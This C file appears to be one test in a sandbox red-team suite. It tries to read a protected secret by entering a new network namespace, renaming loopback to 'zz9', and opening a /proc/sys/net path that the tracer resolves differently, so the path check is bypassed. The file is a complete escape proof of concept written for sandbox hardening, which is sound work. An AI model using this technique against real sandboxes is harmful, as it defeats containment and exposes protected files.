/* Red team 62: a lookup whose answer depends on who looks -- /proc/sys/net, whose entries
 * are those of the LOOKER's network namespace (proc_sys_lookup: the table set of
 * current->nsproxy->net_ns), not the task's the tracer reads about nor the mounter's.
 *
 *   netns_sysctl LINK
 *
 * LINK is an absolute symlink to the secret (planted before the run: a link made earlier).
 * The program enters a network namespace of its own (unshare(CLONE_NEWNET): its loopback
 * device is down there) and renames that "lo" to "zz9" (ioctl SIOCSIFNAME), so that
 * /proc/sys/net/ipv4/conf/zz9 is a directory for the program and for nobody in the tracer's
 * namespace.  Then it opens
 *
 *   /proc/sys/net/ipv4/conf/zz9/../../../../../..LINK
 *
 * The tracer, looking the name up in its own namespace, finds "zz9" missing: a directory on
 * the way is not there, the kernel must fail ENOENT whatever is decided, and the rest is
 * named by its spelling, lexically -- LINK, which no rule names.  The kernel looks "zz9" up
 * for the program, climbs back to "/", follows LINK: the secret.  Natively: the secret (the
 * note says what a process of the first namespace sees: ENOENT).
 * (A bind mount onto that "zz9", in a mount namespace of its own, is refused EPERM: the
 * mount's own check.) */
#include "attack.h"

#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#define NEWNET 0x40000000 /* CLONE_NEWNET (no <sched.h> here) */
#define CONF "/proc/sys/net/ipv4/conf/zz9"

int main(int argc, char **argv) {
    if (argc != 2) usage("netns_sysctl LINK");
    char path[8192];
    snprintf(path, sizeof path, CONF "/../../../../../..%s", argv[1]);
    int before = open(path, O_RDONLY | O_CLOEXEC);
    note("in the first network namespace: %s", before >= 0 ? "opened" : ename(errno));
    if (before >= 0) close(before);
    if (syscall(SYS_unshare, NEWNET) != 0) {
        if (errno == EPERM || errno == EINVAL) skipped("unshare(CLONE_NEWNET): %s", ename(errno));
        blocked("unshare(CLONE_NEWNET): %s", ename(errno));
    }
    int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (sock < 0) blocked("socket: %s", ename(errno));
    struct ifreq req;
    memset(&req, 0, sizeof req);
    strcpy(req.ifr_name, "lo");
    strcpy(req.ifr_newname, "zz9");
    if (ioctl(sock, SIOCSIFNAME, &req) != 0) blocked("SIOCSIFNAME lo -> zz9: %s", ename(errno));
    close(sock);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) blocked("open %s: %s", path, ename(errno));
    if (is_secret_fd(fd)) escaped("read the secret through a sysctl directory of its own netns");
    blocked("opened something else: %s", fd_name(fd));
}
